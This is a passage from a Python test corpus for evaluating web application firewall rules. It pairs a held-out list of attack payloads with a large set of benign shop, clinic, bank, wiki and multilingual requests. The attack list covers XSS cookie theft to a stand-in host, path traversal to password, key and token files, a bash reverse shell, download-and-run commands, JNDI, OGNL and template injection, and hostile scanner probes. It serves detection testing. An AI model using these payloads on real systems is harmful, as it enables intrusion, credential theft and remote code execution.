    ("xss", "graphql", "<img src=x onerror=alert(1)>"),
    ("xss", "webhook", "<script>fetch('//x.example/'+document.cookie)</script>"),
    ("xss", "put", "<svg/onload=alert(1)>"),
    ("xss", "redirect", "javascript:alert(document.domain)"),
    ("xss", "redirect", "java\tscript:alert(1)"),
    ("xss", "bracket", '"><img src=x onerror=prompt(1)>'),
    ("xss", "query", "<details open ontoggle=alert(1)>"),
    ("xss", "query", "<video><source onerror=alert(1)>"),
    ("xss", "query", "<audio src=x onerror=alert(1)>"),
    ("xss", "query", "<body onpageshow=alert(1)>"),
    ("xss", "query", "<input autofocus onfocus=alert(1)>"),
    ("xss", "query", "<select autofocus onfocus=alert(1)>"),
    ("xss", "query", '<object data="javascript:alert(1)">'),
    ("xss", "query", '<base href="javascript:alert(1)//">'),
    ("xss", "query", "<img src=x onerror=\\u0061lert(1)>"),
    ("xss", "query", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>"),
    (
        "xss",
        "query",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X"
        "</text></a>",
    ),
    ("xss", "query", '"onmouseover="alert(1)'),
    ("xss", "query", "';alert(String.fromCharCode(88,83,83))//"),
    ("xss", "query", "</script><script>alert(1)</script>"),
    ("xss", "query", "{{constructor.constructor('alert(1)')()}}"),
    ("xss", "double", "<iMg SrC=x OnErRoR=alert(1)>"),
    ("xss", "raw", "%3Cscript%3Ealert%28%27x%27%29%3C%2Fscript%3E"),
    ("xss", "query", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("xss", "query", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("xss", "form", "<img src=1 onerror=import('//x.example/x.js')>"),
    ("xss", "cookie", '"><script>alert(1)</script>'),
    ("xss", "header:X-Forwarded-Host", 'x.example"><img src=x onerror=alert(1)>'),
    ("xss", "multipart", "<svg><script>alert(1)</script></svg>"),
    ("xss", "plusquery", "<script>alert('hello world')</script>"),
    ("lfi", "query", "../../../../../../etc/hosts"),
    ("lfi", "query", "....//....//....//....//etc/passwd"),
    ("lfi", "query", "..%5c..%5c..%5cboot.ini"),
    ("lfi", "raw", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("lfi", "query", "/var/log/apache2/access.log"),
    ("lfi", "query", "/proc/self/status"),
    ("lfi", "query", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("lfi", "query", "file:///etc/passwd"),
    ("lfi", "query", "php://input"),
    ("lfi", "query", "expect://id"),
    ("lfi", "query", "zip://uploads/a.zip#shell.php"),
    ("lfi", "query", "/etc/passwd\x00"),
    ("lfi", "query", "..\\/..\\/..\\/etc/passwd"),
    ("lfi", "graphql", "../../../../etc/passwd"),
    ("lfi", "webhook", "../../../../root/.ssh/id_rsa"),
    ("lfi", "put", "../../../../../../var/www/.env"),
    ("lfi", "bracket", "/etc/passwd"),
    ("lfi", "path", "/static/..%2f..%2f..%2fetc/passwd"),
    ("lfi", "path", "/assets/....//....//....//etc/passwd"),
    ("lfi", "path", "/config/database.yml"),
    ("lfi", "path", "/wp-config.php.bak"),
    ("lfi", "path", "/WEB-INF/web.xml"),
    ("lfi", "path", "/images/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("lfi", "query", "../../../../../../../../usr/local/etc/php/php.ini"),
    ("lfi", "header:X-Original-URL", "/../../../../etc/passwd"),
    ("lfi", "redirect", "file:///etc/passwd"),
    ("lfi", "json", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("rce", "graphql", "; cat /etc/passwd"),
    ("rce", "webhook", "$(id)"),
    ("rce", "put", "`curl http://x.oast.example/$(hostname)`"),
    ("rce", "bracket", "| whoami"),
    ("rce", "query", "; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("rce", "query", "|| ping -n 3 127.0.0.1"),
    ("rce", "raw", "x%0Auname%20-a"),
    ("rce", "query", ";{cat,/etc/passwd}"),
    ("rce", "query", "; /???/c?t /???/p??swd"),
    ("rce", "query", ";$'\\x63\\x61\\x74' /etc/passwd"),
    ("rce", "query", "| base64 -d <<< aWQ= | sh"),
    ("rce", "query", "; python3 -c 'import os;os.system(\"id\")'"),
    ("rce", "query", "; perl -e 'exec \"/bin/sh\"'"),
    ("rce", "query", "& net user hacker P@ss1 /add"),
    (
        "rce",
        "query",
        "| powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
    ),
    ("rce", "query", "${jndi:rmi://x.oast.example:1099/a}"),
    ("rce", "ua", "${jndi:dns://x.oast.example/ua}"),
    ("rce", "query", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"),
    ("rce", "query", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("rce", "query", "{% import os %}{{ os.popen('id').read() }}"),
    ("rce", "query", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    (
        "rce",
        "query",
        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
    ),
    (
        "rce",
        "header:Content-Type",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
    ),
    ("rce", "query", "<?=`$_GET[0]`?>"),
    ("rce", "form", "system($_GET['c']);"),
    (
        "rce",
        "rawjson",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a",'
        '"autoCommit":true}',
    ),
    ("rce", "query", 'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}'),
    ("rce", "query", "require('child_process').exec('id')"),
    ("rce", "multipart", "#!/bin/sh\ncurl http://x.example/x | sh"),
    ("rce", "query", "a;sleep${IFS}5"),
    ("scanner", "ua", "Nikto/2.5.0"),
    ("scanner", "ua", "Wfuzz/3.1.0"),
    ("scanner", "ua", "Arachni/v1.6.1"),
    ("scanner", "ua", "commix/v3.9-stable (https://commixproject.com)"),
    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("scanner", "ua", "ZmEu"),
    ("scanner", "ua", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
    ("scanner", "ua", "Mozilla/5.0 (compatible; Nessus SOAP)"),
    ("scanner", "ua", "w3af.org"),
    ("scanner", "header:X-Scanner", "Netsparker"),
    ("scanner", "path", "/phpmyadmin/index.php"),
    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
    ("scanner", "path", "/solr/admin/cores?action=STATUS&wt=json"),
    ("scanner", "path", "/console/login/LoginForm.jsp"),
    ("scanner", "path", "/.git/HEAD"),
    ("scanner", "path", "/.DS_Store"),
    ("scanner", "path", "/_ignition/execute-solution"),
    ("scanner", "path", "/.vscode/sftp.json"),
    ("scanner", "path", "/telescope/requests"),
    (
        "scanner",
        "path",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    ),
    (
        "scanner",
        "path",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        "&vars[0]=md5&vars[1][]=HelloThinkPHP",
    ),
    ("scanner", "path", "/wls-wsat/CoordinatorPortType"),
    ("scanner", "path", "/druid/index.html"),
    ("scanner", "path", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"),
    ("scanner", "path", "/GponForm/diag_Form?images/"),
    ("protocol", "method", "TRACK"),
    ("protocol", "method", "PROPFIND"),
    ("protocol", "header:Content-Length", "-1"),
    ("protocol", "header:Content-Length", "0x10"),
    ("protocol", "header:Host", "shop.example.com@evil.example"),
    ("protocol", "raw", "%0d%0aLocation:%20http://evil.example"),
    ("protocol", "redirect", "/%0d%0aSet-Cookie:x=1"),
    ("protocol", "header:Range", "bytes=-1,-2,-3,-4,-5,-6,-7,-8,-9,-10,-11,-12"),
    ("protocol", "header:Content-Type", "text/plain; charset=ibm037"),
    ("protocol", "header:Content-Type", "multipart/form-data"),
    (
        "protocol",
        "headers",
        "Upgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\nConnection: Upgrade, HTTP2-Settings",
    ),
    ("protocol", "raw", "%uff1cscript%uff1e"),
    ("protocol", "raw", "a=%G1%Z2"),
    ("protocol", "header:Connection", "keep-alive, Cookie"),
    ("protocol", "header:Transfer-Encoding", "chunked, identity"),
    ("protocol", "header:X-Forwarded-For", "127.0.0.1\r\nX-Injected: 1"),
    (
        "protocol",
        "xml",
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
    ),
    ("protocol", "rawjson", '{"a":1,"__proto__":{"isAdmin":true}}'),
    ("protocol", "header:Content-Encoding", "gzip, gzip, gzip, gzip, gzip, gzip"),
    ("protocol", "method", "MKCOL"),
)


def _deliver6(cat: str, how: str, p: str, note: str) -> CorpusRequest:
    """Held-out 6's own deliveries, then `_deliver5`'s: a GraphQL variable, a field deep in a
    webhook's JSON, a PUT of JSON, a bracketed query argument (`filter[name]`), an OAuth
    `redirect_uri`, and a query with `+` for spaces (as forms encode them)."""
    h = _headers()
    if how == "graphql":
        doc: dict[str, object] = {
            "operationName": "Search",
            "query": "query Search($q: String!) { search(query: $q) { id } }",
            "variables": {"q": p},
        }
        return _json(cat, "/graphql", doc, note)
    if how == "webhook":
        hook = {"action": "opened", "issue": {"number": 7, "title": "bug", "body": p}, "v": 1}
        return _json(cat, "/hooks/github", hook, note, X_GitHub_Event="issues")
    if how == "put":
        r = _json(cat, "/api/v1/users/42", {"display_name": p, "tz": "UTC"}, note)
        return CorpusRequest(cat, "PUT", r.path, "", r.headers, r.body, note)
    if how == "bracket":
        q = f"filter%5Bname%5D={quote(p, safe='')}&page%5Bsize%5D=24"
        return CorpusRequest(cat, "GET", "/api/products", q, h, None, note)
    if how == "redirect":
        q = f"client_id=app&response_type=code&redirect_uri={quote(p, safe='')}&state=a1"
        return CorpusRequest(cat, "GET", "/oauth/authorize", q, h, None, note)
    if how == "plusquery":
        return CorpusRequest(cat, "GET", "/search", urlencode({"q": p}), h, None, note)
    return _deliver5(cat, how, p, note)


def heldout6_attacks() -> list[CorpusRequest]:
    """The sixth held-out attack set, each payload delivered the way its entry names."""
    return [_deliver6(c, how, p, f"held-out-6 {how}: {p[:120]}") for c, how, p in HELDOUT6_ATTACKS]


def heldout6_benign() -> list[CorpusRequest]:
    """The sixth held-out benign set: forum, docs and shop text, text in many languages, OAuth
    and analytics queries, CMS admin paths, webhook and GraphQL bodies, and whole requests."""
    out = _benign_set(
        "held-out-6",
        HELDOUT6_BENIGN_TEXT,
        HELDOUT6_BENIGN_QUERIES,
        HELDOUT6_BENIGN_PATHS,
        HELDOUT6_BENIGN_JSON,
        HELDOUT6_BENIGN_COOKIES,
        HELDOUT6_BENIGN_REFERERS,
        HELDOUT6_BENIGN_UAS,
    )
    return out + _requests("held-out-6", HELDOUT6_BENIGN_REQUESTS)


# -- held out, seventh set: written on 2026-11-27 BEFORE the sixth detection round --------------
# Written from public attack-pattern knowledge and from what real sites receive (shop carts and
# checkouts, search-as-you-type, analytics beacons, mobile app APIs, text in many scripts,
# markdown and wiki edits, file-sharing metadata, clinic and bank forms with punctuation-heavy
# free text, the headers real browsers and CDNs add), without reading or running the rules on it;
# committed before any rule change. `benchmarks/waf_eval.py` totals it only when asked
# (`--heldout7`), at the end of a round.

HELDOUT7_BENIGN_TEXT: tuple[str, ...] = (
    # healthcare forms: symptoms, doses and notes as patients and clinicians type them
    "Took 2x 500mg paracetamol @ 8am; pain still 7/10 -- worse when lying down",
    "Allergies: penicillin (rash), sulfa drugs -> hives; NO latex!!",
    "BP 142/91 at home (Omron), usually < 130/85. Meds: ramipril 5 mg 1x/day",
    "pt c/o SOB on exertion x 3/7, no chest pain; O2 sat 96% RA",
    "Dose: 0.5 ml s.c. weekly (Wed) -- missed 1 dose on 12/11 due to travel",
    "Family hx: father MI @ 52; mother T2DM; sister 'borderline' thyroid (TSH 4.9?)",
    "Please refill: Levothyroxine 75mcg #90 + Atorvastatin 20mg #90 (CVS on 5th & Main)",
    'Is it OK to take ibuprofen & naproxen together? Label says "do not combine"',
    # finance forms: references, amounts, payees
    "Ref: INV-2026/0451; PO#7781 -- 50% deposit, balance on delivery",
    'Payee: O\'Connor & Sons Ltd. (acct ****4821), memo: "Q4 retainer"',
    "Transfer £1,250.00 to savings; note: rent + bills (Nov/Dec)",
    "Dispute: charged twice ($89.99 + $89.99) on 11/23 at AMZN Mktp US*2K4",
    "Employer: Smith, Jones & Partners LLP; income ~€64k/yr (before tax)",
    "IBAN DE89 3704 0044 0532 0130 00 / BIC COBADEFFXXX, ref 'Miete Dez.'",
    "Reason for loan: consolidate 2 cards (APR 24.9% & 29.9%) -> one payment",
    # shop: order notes, gift messages, reviews
    "Gift msg: Happy 30th Sam!!! <3 love, Jo & the kids :) xx",
    "Please leave parcel behind the blue bin (gate code #4512*) -- NOT with neighbour",
    "5 stars -- fits true to size; 'wide fit' is a must if you've got bunions lol",
    "Returned it: colour was 'navy' on screen but looked black in daylight. 2/5",
    'Engraving: "Always & forever -- 12.06.2021"',
    'Does the 2-pack (SKU 88-1043/B) include the 1/4" adapter or only 3/8"?',
    # markdown and wiki edits
    "## Setup\n\n1. Run `make install`\n2. Copy `.env.example` to `.env`\n3. Done!",
    "| Plan | Price |\n|------|-------|\n| Pro | $12/mo |\n| Team | $40/mo |",
    "See [the docs](https://docs.example.com/en/latest/) or ping @maria in #support.",
    "> **Note:** this page is out of date since v3.2; see _Migration_ below.",
    "{{Infobox person\n| name = Ada Lovelace\n| birth_date = {{birth date|1815|12|10}}\n}}",
    "[[Category:19th-century mathematicians]] [[File:Ada_Lovelace.jpg|thumb|left|Ada, 1840]]",
    "<ref>{{cite web |url=https://example.org/a?id=1&lang=en |title=Notes |access-date=2026-11-01}}</ref>",
    "- [x] write tests\n- [ ] update CHANGELOG.md\n- [ ] tag v2.4.0",
    "Footnote[^1] and ~~strikethrough~~ and ==highlight== are not in CommonMark.",
    "```js\nconst total = items.reduce((a, b) => a + b.price, 0);\n```",
    "<!-- TODO: add screenshot of settings page -->",
    # i18n: many scripts and punctuation
    "مرحبا، هل يمكنني تغيير عنوان الشحن بعد الدفع؟",
    "שלום! האם יש משלוח חינם מעל 200 ₪?",
    "สินค้าถึงแล้วค่ะ แต่กล่องบุบนิดหน่อย (ไม่เป็นไร)",
    "Cho tôi hỏi: áo size M có còn màu đỏ không ạ?",
    "배송은 보통 며칠 걸리나요? 제주도도 가능한가요?",
    "क्या यह उत्पाद भारत में उपलब्ध है? कीमत ₹2,499 है?",
    "Πότε θα έρθει η παραγγελία μου; Αριθμός #A-5521",
    "Siparişim 3 gündür 'kargoda' görünüyor, ne zaman gelir?",
    "Czy mogę zwrócić towar po 30 dniach? Paragon zgubiłem :(",
    "「送料無料」の条件は？ 5,000円以上ですか？",
    "Ça coûte 49,90 € TTC — livraison incluse ? Merci d'avance !",
    "¿Tienen la talla 42½? ¡Gracias! 👟",
    "Grüße aus Köln – die Jacke (Größe L) passt perfekt 👍",
    "Я заказал 2 шт., пришла 1 — что делать?",
    "我想把订单 #88231 的地址改成：上海市浦东新区（张江）",
    # support and account free text
    "My password has a ' and a \" in it and the app says invalid credentials",
    "Can't log in since update 4.12.0 (Android 14, Pixel 7) -- error code E_AUTH_401",
    "Pls cancel order #55120 AND #55121 (duplicate), refund to original card",
    "Unsubscribe me from ALL emails; 'manage preferences' link gives 404",
    "My username used to be john_doe--2019; can I get it back?",
    "Address line 2: Flat 3/2, 14-16 St. Mary's Rd (rear entrance)",
    # more clinic, bank and insurance free text
    "Claim #CLM-77120: water damage (kitchen) -- plumber's invoice attached; est. $2,340 + tax",
    "Reason for visit: 'popping' in L knee when climbing stairs; worse after 5k runs",
    "Dietary needs: no nuts (anaphylaxis -- carries EpiPen), lactose-free, halal",
    "Notes for pharmacist: patient is 6'1\", 210 lbs; eGFR 58 -> adjust dose?",
    "Standing order: £75.00 monthly to 'Kids' savings' from 1st Jan; cancel old one (#SO-12)",
    "Why was I charged a 3% FX fee on a € purchase? Card says 'no foreign fees'",
    "Tax ID: 12-3456789; business type: LLC (S-corp election 2024); NAICS 541511",
    "Emergency contact: Dana Lee (wife) -- (555) 010-4477 / dana.lee@example.com",
    # more shop and support free text
    "Size guide says 'runs small' -- I'm 34\"/86cm chest, M or L?",
    'Can I combine code WELCOME10 with the 2-for-1 offer? Checkout says "not eligible"',
    "Item arrived damaged (see photos) -- box was marked 'THIS WAY UP' but upside down :(",
    "Is this compatible w/ iPhone 15 Pro Max + MagSafe? Listing says 'iPhone 15/15 Pro'",
)

HELDOUT7_BENIGN_QUERIES: tuple[str, ...] = (
    # search-as-you-type: every keystroke, half-words included
    "q=o%27&limit=8",
    "q=o%27ne&limit=8",
    "q=c%2B%2B%20&limit=8",
    "q=select&limit=8&types=product,category",
    "q=drop%20shi&limit=8",
    "q=union%20ja&limit=8",
    "q=%3C3%20mug&limit=8",
    "q=50%25%20off&limit=8",
    "q=script%20font&limit=8",
    "q=1%2F4%22%20drill&limit=8",
    "q=%22&limit=8",
    "q=rock%20%26%20roll%20t-&limit=8",
    "term=l%27or%C3%A9a&locale=fr_FR&session=7f3c",
    "query=ben%20%26%20je&hitsPerPage=5&attributesToRetrieve=name,url",
    # analytics beacons
    "v=1&_v=j101&a=1234567&t=event&ec=video&ea=play&el=Intro%20%E2%80%93%20Part%201"
    "&ev=0&cid=555.1700000000&tid=UA-12345-1&dl=https%3A%2F%2Fshop.example.com%2F",
    "en=scroll&ep.percent_scrolled=90&_et=18204&tid=G-XYZ789&cid=99.1700000001",
    "id=GTM-ABC123&l=dataLayer&cx=c&gtm=45He4b00",
    "sentry_key=abc123def456&sentry_version=7&sentry_client=sentry.javascript.browser%2F7.91.0",
    "ev=PageView&id=1234567890&rl=&if=false&ts=1700000000000&sw=390&sh=844&v=2.9.138",
    # shop, cart and checkout query strings
    "cart_token=Z2NwLWV1cm9wZS13ZXN0MTowMUhDOA&step=payment_method",
    "coupon=SAVE-20%25&apply=1",
    "variant=40012345678901&quantity=2&properties%5BGift%20note%5D=Happy%20B-day%21",
    "shipping_rate=shopify-Standard%20(3-5%20days)-4.99&country=GB",
    "sort_by=price-ascending&filter.v.price.gte=10&filter.p.m.custom.material=100%25%20cotton",
    # mobile app APIs
    "platform=ios&app_version=8.14.1%20(2031)&os=17.4.1&device=iPhone15%2C2&lang=en-GB",
    "since=2026-11-20T00%3A00%3A00Z&page_token=eyJvZmZzZXQiOjUwfQ%3D%3D",
    "fields=id%2Cname%2Cpicture.width(200).height(200)&access_token=EAAB1234",
    # file sharing
    "path=%2FShared%2FFinance%20%26%20Legal%2F2026%2FQ3%20(final).xlsx&dl=1",
    "folder=%2FPhotos%2F2026-08%20Lisbon%20%F0%9F%87%B5%F0%9F%87%B9&sort=modified&order=desc",
    "name=Meeting%20notes%20-%20%22Budget%22%20(draft%202).docx&conflict=rename",
    # i18n and misc
    "q=%D9%87%D8%A7%D8%AA%D9%81+%D8%B3%D8%A7%D9%85%D8%B3%D9%88%D9%86%D8%AC&lang=ar",
    "q=%E0%B8%A3%E0%B8%AD%E0%B8%87%E0%B9%80%E0%B8%97%E0%B9%89%E0%B8%B2&lang=th",
    "returnUrl=%2Fcheckout%3Fstep%3Dreview%26from%3Dcart",
    "q=order%20by%20date&limit=8",
    "q=java%20script%20for%20kids%20book&limit=8",
    "q=%2Fetc%20shelf&limit=8",
    "amount=1%2C250.00&currency=GBP&ref=RENT%20DEC%20%2F%20FLAT%203%2F2",
    "icd10=E11.9%3BI10&dob=1987-03-09&provider=Dr.%20O%27Hara",
    "waypoints=51.5072%2C-0.1276%7C48.8566%2C2.3522&mode=driving&avoid=tolls%7Cferries",
)

HELDOUT7_BENIGN_PATHS: tuple[str, ...] = (
    "/cart.js",
    "/checkout/cn/Z2NwLWV1cm9wZS13ZXN0MTowMUhD/information",
    "/api/storefront/2024-10/graphql.json",
    "/products/mens-1-4-zip-fleece-%E2%80%94-navy.json",
    "/wiki/Special:RecentChanges",
    "/wiki/Talk:SQL_injection",
    "/w/index.php",
    "/wiki/C%2B%2B",
    "/s/AbC-123_xyz/Q3%20report%20(final).pdf",
    "/drive/folders/1a2B3c4D5e6F7g8H9i0J",
    "/api/v2/files/8812/versions/3/content",
    "/patient-portal/messages/new",
    "/fr/c/v%C3%AAtements-homme/pulls-%26-gilets",
    "/ko/%EC%83%81%ED%92%88/%EC%8B%A0%EB%B0%9C",
    "/ar/%D8%A7%D9%84%D9%85%D9%86%D8%AA%D8%AC%D8%A7%D8%AA",
    "/cdn-cgi/image/width=640,quality=75,format=auto/images/hero.jpg",
    "/_next/data/build-8f3a2c/en/products/red-shoe.json",
    "/_next/image?url=%2Fimages%2Fshoe.png&w=1080&q=75",
    "/apple-touch-icon-180x180.png",
    "/service-worker.js",
)

HELDOUT7_BENIGN_JSON: tuple[object, ...] = (
    # carts and checkouts
    {
        "items": [
            {
                "id": 40012345678901,
                "quantity": 1,
                "properties": {"Engraving": "J & M -- 14.02.2020", "_gift": "yes"},
            }
        ]
    },
    {
        "email": "o'brien.sean+shop@example.ie",
        "shipping_address": {
            "first_name": "Seán",
            "last_name": "O'Brien",
            "address1": "Apt. 4B, 12-14 St. Stephen's Green",
            "address2": "c/o Reception (2nd floor)",
            "city": "Dublin 2",
            "zip": "D02 X285",
            "phone": "+353 (0)1 234-5678",
        },
        "note": "Ring bell #3; if no answer leave w/ concierge",
    },
    {
        "payment_method": {"type": "card", "card": {"brand": "visa", "last4": "4242"}},
        "billing_details": {"name": "Zoë Smith-Jones", "address": {"line1": "1 Main St; Unit 5"}},
        "amount": 12999,
        "currency": "usd",
    },
    {"discount_code": "BLACKFRIDAY-30%", "cart_id": "c_8f3a2c", "replace": True},
    {
        "line_items": [{"sku": "TSHIRT-M-RED", "qty": 2}, {"sku": "MUG-11OZ", "qty": 1}],
        "gift_message": 'To Dad -- "World\'s okayest golfer" ;) From all of us <3',
    },
    # analytics beacons (navigator.sendBeacon bodies)
    {
        "client_id": "1234567890.1700000000",
        "events": [
            {
                "name": "view_item",
                "params": {
                    "item_name": "Men's 1/4-Zip Fleece — Navy",
                    "page_location": "https://shop.example.com/products/fleece?variant=1&utm_source=ig",
                },
            }
        ],
    },
    {
        "type": "track",
        "event": "Order Completed",
        "properties": {"order_id": "50314b8e", "total": 27.5, "coupon": "hasbros", "products": []},
        "context": {"userAgent": CHROME, "page": {"referrer": "https://www.google.com/"}},
    },
    {
        "name": "INP",
        "value": 184,
        "id": "v4-1700000000-123",
        "attribution": {"eventTarget": "button#add-to-cart.btn.btn--primary"},
    },
    {
        "csp-report": {
            "document-uri": "https://shop.example.com/checkout",
            "violated-directive": "script-src-elem",
            "blocked-uri": "https://www.googletagmanager.com/gtag/js?id=G-XYZ",
            "source-file": "https://shop.example.com/checkout",
        }
    },
    # mobile app APIs
    {
        "device": {
            "platform": "android",
            "model": "SM-S918B",
            "os": "14",
            "push_token": "fcm:APA91bH-xyz_123",
        },
        "app": {"version": "8.14.1", "build": 2031},
        "locale": "pt_BR",
    },
    {"query": "pizza near me", "lat": 51.5072, "lng": -0.1276, "radius_m": 1500, "open_now": True},
    {"message": {"text": "omw, 5 mins -- traffic on the A40 :/", "client_msg_id": "c3b1-77"}},
    # markdown / wiki / CMS content
    {
        "title": "How to reset your router",
        "body_markdown": "1. Unplug it\n2. Wait 30s\n3. Hold **RESET** for 10s\n\n"
        "If the light is still red, visit <https://support.example.com/router>.",
        "tags": ["networking", "how-to"],
    },
    {
        "page": "Release notes/4.2",
        "summary": "fix typo; add <code>--dry-run</code> flag",
        "text": "== Changes ==\n* New: <code>--dry-run</code>\n* Fixed: crash when path contains ''quotes''",
    },
    # file-sharing metadata
    {
        "name": "Invoice #2026-0451 (signed).pdf",
        "parent": "/Clients/O'Neil & Co/2026",
        "description": "Signed copy -- supersedes v1 (wrong VAT %)",
        "shared_with": ["ana@example.com", "team-finance@example.com"],
    },
    {"path": "/Photos/2026/Lisbon/IMG_2041 (1).HEIC", "mode": "add", "autorename": True},
    {
        "file_id": "f_8812",
        "comment": "p.3 -- the table's 'Total' row should be SUM(B2:B9), not B2+B9",
        "mentions": ["@ana"],
    },
    {
        "link_settings": {
            "audience": "password",
            "expires": "2026-12-31T23:59:59Z",
            "allow_download": False,
        }
    },
    # healthcare / finance JSON forms
    {
        "patient": {"name": "Mary-Kate O'Neill", "dob": "1987-03-09"},
        "reason": "Follow-up: HbA1c 7.8% (was 8.4%); metformin 500mg 2x/d -> 1000mg?",
        "symptoms": ["fatigue", "thirst (>3L/day)"],
    },
    {
        "claim": {"type": "dental", "codes": ["D0120", "D1110"], "amount": 185.0},
        "notes": "2 x-rays (bitewing); patient paid $40 co-pay @ front desk",
    },
    {
        "beneficiary": "Müller & Söhne GmbH",
        "amount": "1.250,00",
        "reference": "RE 2026/11-034; Kd.-Nr. 4471",
        "execution_date": "2026-12-01",
    },
)

HELDOUT7_BENIGN_COOKIES: tuple[str, ...] = (
    "cart=c1-8f3a2c1b7e9d; cart_ts=1700000000; cart_currency=GBP; "
    "_shopify_y=9f8e7d6c-5b4a; _shopify_s=1a2b3c4d-5e6f",
    "__cf_bm=Aw1.2x3_Y4z-1700000000-0-AXYZ+abc/def=; cf_clearance=abc123.def456-1700000000-0-150",
    "AWSALB=YWJjZGVm+ZGVmZw==; AWSALBCORS=YWJjZGVm+ZGVmZw==",
    "_hjSessionUser_123456=eyJpZCI6IjEyMyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjAbsoluteSessionInProgress=0",
    "consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%2C%22ads%22%3Afalse%7D",
    "locale=ar-EG; dir=rtl; currency=EGP",
    "recently_viewed=SKU-1%7CSKU-22%7CSKU-333; compare=",
    "intercom-session-abcd1234=ZmFrZS1zZXNzaW9u--1a2b3c; intercom-device-id-abcd1234=0f9e8d7c",
)

HELDOUT7_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.google.com/",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fp%2F1&h=AT0abc",
    "https://checkout.stripe.com/c/pay/cs_live_a1B2c3#fidkdWxOYHwnPyd1blppbHNgWjA0",
    "https://duckduckgo.com/?q=%22drop+shipping%22+vs+%22dropshipping%22&ia=web",
    "https://en.wikipedia.org/w/index.php?title=SQL_injection&action=edit&section=3",
    "https://mail.google.com/",
    "https://www.baidu.com/link?url=abc_DEF-123&wd=&eqid=f00d",
)

HELDOUT7_BENIGN_UAS: tuple[str, ...] = (
    "ShopApp/8.14.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "MyBank/5.2.0 (Android 14; SM-S918B; Build/UP1A.231005.007)",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP1A.240305.019; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/455.0.0.37.106;FBBV/570041234;FBDV/iPhone15,2]",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
    "Datadog Agent/7.50.0",
    "Amazon CloudFront",
    "python-requests/2.31.0",
)

_H7_BOUNDARY = "----WebKitFormBoundaryH7q2XzLm9AbC"
_H7_MULTIPART = {"Content-Type": f"multipart/form-data; boundary={_H7_BOUNDARY}"}
_H7_BEACON = {"Content-Type": "text/plain;charset=UTF-8", "Origin": "https://shop.example.com"}
_H7_CDN = {
    "CF-Connecting-IP": "198.51.100.23",
    "CF-IPCountry": "GB",
    "CF-Ray": "8a1b2c3d4e5f6a7b-LHR",
    "CF-Visitor": '{"scheme":"https"}',
    "X-Forwarded-For": "198.51.100.23, 172.70.85.12",
    "X-Forwarded-Proto": "https",
    "CDN-Loop": "cloudflare",
}
_H7_CHROME = {
    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    "sec-ch-ua-mobile": "?0",
    "sec-ch-ua-platform": '"Windows"',
    "Sec-Fetch-Site": "same-origin",
    "Sec-Fetch-Mode": "cors",
    "Sec-Fetch-Dest": "empty",
    "Priority": "u=1, i",
}


def _h7_multipart(*parts: tuple[str, str | None, str | None, bytes]) -> bytes:
    """A multipart body of (name, filename, content type, content) parts, held-out 7's boundary."""
    return _multipart(_H7_BOUNDARY, *parts)


HELDOUT7_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
    # (method, path, query, extra headers, body): carts, checkouts, beacons, mobile APIs, wikis,
    # file sharing, clinic and bank forms, and the headers browsers and CDNs add
    (
        "POST",
        "/cart/add.js",
        "",
